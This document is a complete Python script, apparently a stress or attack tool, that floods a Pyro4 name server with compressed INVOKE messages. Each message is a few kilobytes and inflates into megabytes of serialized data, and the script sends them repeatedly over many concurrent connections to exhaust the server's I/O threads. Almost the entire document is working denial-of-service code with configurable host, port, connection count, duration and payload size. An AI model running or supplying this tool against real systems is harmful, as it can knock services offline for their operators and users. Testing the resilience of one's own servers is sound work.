"""A decompression bomb: a real Pyro4 4.82 INVOKE message, compressed as Pyro4 compresses (zlib, flag
COMPRESSED), of a few KB that inflates to megabytes of serpent: ns.lookup() of a list of ELEMENTS zeros.
Sent again and again, each time after the previous answer, on CONNECTIONS connections at once (so that every
I/O thread of the server gets its share).

Usage: ns_bomb.py HOST PORT CONNECTIONS SECONDS ELEMENTS
Prints "compressed N inflated M" first, then "sent N answered M" at the end.
"""
import socket
import sys
import threading
import time

import Pyro4.message
import Pyro4.socketutil
import Pyro4.util

HOST, PORT, CONNECTIONS, SECONDS, ELEMENTS = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), int(sys.argv[5])
serializer = Pyro4.util.get_serializer("serpent")
data, compressed = serializer.serializeCall("Pyro.NameServer", "lookup", ([0] * ELEMENTS,), {}, compress=True)
assert compressed
inflated = len(serializer.dumpsCall("Pyro.NameServer", "lookup", ([0] * ELEMENTS,), {}))
print("compressed %d inflated %d" % (len(data), inflated))
sys.stdout.flush()
counts = {"sent": 0, "answered": 0}
lock = threading.Lock()


def attack():
    sock = socket.create_connection((HOST, PORT), timeout=30)
    conn = Pyro4.socketutil.SocketConnection(sock)
    hello = serializer.dumps({"handshake": "hello", "object": "Pyro.NameServer"})
    conn.send(Pyro4.message.Message(Pyro4.message.MSG_CONNECT, hello, serializer.serializer_id, 0, 1).to_bytes())
    Pyro4.message.Message.recv(conn, [Pyro4.message.MSG_CONNECTOK])
    seq = 2
    started = time.time()
    try:
        while time.time() - started < SECONDS:
            bomb = Pyro4.message.Message(Pyro4.message.MSG_INVOKE, data, serializer.serializer_id,
                                         Pyro4.message.FLAGS_COMPRESSED, seq)
            conn.send(bomb.to_bytes())
            with lock:
                counts["sent"] += 1
            Pyro4.message.Message.recv(conn, [Pyro4.message.MSG_RESULT])
            with lock:
                counts["answered"] += 1
            seq = (seq + 1) & 0xffff
    except Exception as x:
        print("attacker stopped: %s: %s" % (type(x).__name__, x))
    finally:
        conn.close()


threads = [threading.Thread(target=attack, daemon=True) for _ in range(CONNECTIONS)]
for t in threads:
    t.start()
for t in threads:
    t.join(SECONDS + 60)
print("sent %d answered %d" % (counts["sent"], counts["answered"]))
